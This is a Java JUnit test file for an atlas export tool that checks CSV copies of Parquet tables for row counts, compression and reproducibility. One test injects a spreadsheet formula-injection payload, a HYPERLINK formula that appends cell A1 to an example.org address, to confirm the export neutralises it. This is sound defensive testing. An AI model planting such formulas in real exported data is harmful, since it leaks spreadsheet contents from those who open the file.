package org.sovereignai.jobs.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.apache.commons.io.FileUtils;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.sovereignai.atlas.Atlas;
import org.sovereignai.jobs.run.SparkExtension;
import org.sovereignai.schemas.manifest.Manifest;

/** The CSV files of an atlas against the Parquet files beside it. */
@ExtendWith(SparkExtension.class)
class AtlasTablesTest {

    @Test
    void copyHasEveryTableAsCsvWithAllItsRows(@TempDir Path folder) throws IOException, SQLException {
        Path release = Releases.starter();
        Manifest manifest = Manifest.parse(Files.readString(release.resolve("datapackage.json")));

        Atlas.of(release, manifest).writeCopy(folder);

        for (JsonNode table : tables(release)) {
            String name = table.path("name").asText();
            assertThat(rows(folder.resolve("csv/" + name + ".csv")))
                    .as(name)
                    .isEqualTo(table.path("rows").asLong());
        }
    }

    @Test
    void copyThatCannotBeMadeLeavesNothing(@TempDir Path folder) throws IOException {
        Path out = folder.resolve("out");
        Path release = out.resolve("releases/2026.11.1");
        FileUtils.copyDirectory(Releases.starter().toFile(), release.toFile());
        Files.delete(release.resolve("CITATION.txt"));

        Command command = Command.run("atlas", "--out", out, "--to", folder.resolve("public"));

        assertThat(command.code()).isEqualTo(3);
        assertThat(command.err())
                .isEqualTo("%s is not there; restore the release from a copy, or make it again.%n"
                        .formatted(release.resolve("CITATION.txt")));
        assertThat(folder.toFile().list()).containsExactly("out");
    }

    @Test
    void releaseHasEveryTableAsCsvWithAllItsRowsLargeOnesCompressed() throws IOException, SQLException {
        Path release = Releases.starter();
        for (JsonNode table : tables(release)) {
            String name = table.path("name").asText();
            long rows = table.path("rows").asLong();
            Path plain = csv(release, name);
            Path compressed = plain.resolveSibling(name + ".csv.gz");
            Path file = name.equals("indicator_value")
                    ? release.resolve("indicators.csv")
                    : rows > 20_000 ? compressed : plain;
            assertThat(rows(file)).as(name).isEqualTo(rows);
            assertThat(Stream.of(plain, compressed, file).filter(Files::exists).distinct())
                    .as(name)
                    .containsExactly(file);
        }
    }

    private static long rows(Path csv) throws SQLException {
        try (Connection duckdb = DriverManager.getConnection("jdbc:duckdb:");
                Statement statement = duckdb.createStatement();
                ResultSet rows = statement.executeQuery("SELECT count(*) FROM read_csv('" + csv
                        + "', header = true, all_varchar = true, delim = ',', quote = '\"', escape = '\"')")) {
            rows.next();
            return rows.getLong(1);
        }
    }

    @Test
    void noTextIsAFormulaAndTheFilesAreTheSameEveryTime(@TempDir Path folder) throws IOException, SQLException {
        Path release = Releases.starter();
        for (String file : files(release)) {
            Files.copy(release.resolve(file), folder.resolve(file));
        }
        String hostile = "=HYPERLINK(\"https://example.org/?\"&A1,\"model\")";
        String name;
        try (Connection duckdb = DriverManager.getConnection("jdbc:duckdb:");
                Statement statement = duckdb.createStatement()) {
            try (ResultSet first = statement.executeQuery(
                    "SELECT min(model_name) FROM '" + release.resolve("model_release.parquet") + "'")) {
                first.next();
                name = first.getString(1).replace("'", "''");
            }
            statement.execute("COPY (SELECT * REPLACE (CASE WHEN model_name = '" + name + "' THEN '" + hostile
                    + "' ELSE model_name END AS model_name) FROM '" + release.resolve("model_release.parquet")
                    + "') TO '" + folder.resolve("model_release.parquet") + "'");
        }
        Manifest manifest = Manifest.parse(Files.readString(folder.resolve("datapackage.json")));

        Atlas.of(folder, manifest).writeIntoRelease();

        try (Connection duckdb = DriverManager.getConnection("jdbc:duckdb:");
                Statement statement = duckdb.createStatement();
                ResultSet found = statement.executeQuery("SELECT model_name FROM read_csv('"
                        + csv(folder, "model_release")
                        + "', header = true, all_varchar = true) WHERE contains(model_name, 'HYPERLINK')")) {
            assertThat(found.next()).isTrue();
            assertThat(found.getString(1)).isEqualTo("'" + hostile);
        }
        for (JsonNode table : tables(release)) {
            String other = table.path("name").asText();
            if (!other.equals("model_release") && Files.exists(csv(release, other))) {
                assertThat(csv(folder, other)).hasSameBinaryContentAs(csv(release, other));
            }
        }
    }

    private static List<JsonNode> tables(Path release) throws IOException {
        List<JsonNode> tables = new ArrayList<>();
        for (JsonNode resource : new ObjectMapper()
                .readTree(release.resolve("datapackage.json").toFile())
                .path("resources")) {
            if (resource.has("schema")) {
                tables.add(resource);
            }
        }
        return tables;
    }

    private static Path csv(Path release, String table) {
        return release.resolve("atlas/csv").resolve(table + ".csv");
    }

    private static List<String> files(Path release) throws IOException {
        try (Stream<Path> files = Files.list(release)) {
            return files.filter(Files::isRegularFile)
                    .map(file -> file.getFileName().toString())
                    .toList();
        }
    }
}
